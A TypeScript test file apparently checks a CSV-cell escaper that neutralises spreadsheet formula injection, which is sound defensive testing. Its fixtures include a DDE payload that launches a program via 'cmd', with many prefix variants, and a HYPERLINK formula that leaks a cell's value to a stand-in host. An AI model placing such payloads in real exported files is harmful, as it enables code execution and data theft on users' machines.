import { expect, test } from 'vitest'
import { csvCell } from './csv-cell.ts'

const bomb = `cmd|' /C calc'!A0`
const formulas = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'].map((sign) => sign + bomb),
  ...['\t', '\r', '\n', ' ', '\u00a0', '\u200b', '\ufeff', '"', "'", '` ', '“', '« ', '" \'', '\t\r '].map(
    (before) => `${before}=${bomb}`,
  ),
  '\tplain',
  '\r@SUM(1)',
  '-2+3',
  '=HYPERLINK("http://x.example?"&A1;"ok")',
  '=1;=2\r\n=3',
]

/** Reads a cell the way a spreadsheet does. */
function readBack(written: string): string {
  if (!written.startsWith('"')) return written
  expect(written.endsWith('"')).toBe(true)
  return written.slice(1, -1).replaceAll('""', '"')
}

test.each(formulas)('%j is text to a spreadsheet, and nothing of it is lost', (cell) => {
  expect(readBack(csvCell(cell))).toBe(`'${cell}`)
})

test('what parts cells or lines, or quotes them, stands in quotes; nothing else does', () => {
  const written = ['a;b', 'a,b', 'a\nb', 'a\rb', 'a\tb', 'a"b', "a'b", 'a b', 'a.b'].map(csvCell)
  expect(written).toEqual(['"a;b"', '"a,b"', '"a\nb"', '"a\rb"', '"a\tb"', '"a""b"', `"a'b"`, 'a b', 'a.b'])
})

test.each([
  'plain',
  '',
  '12.50',
  'a = b',
  'x@y.example',
  'M8-40',
  'say "hello"',
  'a;b',
  'два\nряда',
  'O’Brien',
])('%j stays as it is', (cell) => {
  expect(readBack(csvCell(cell))).toBe(cell)
})
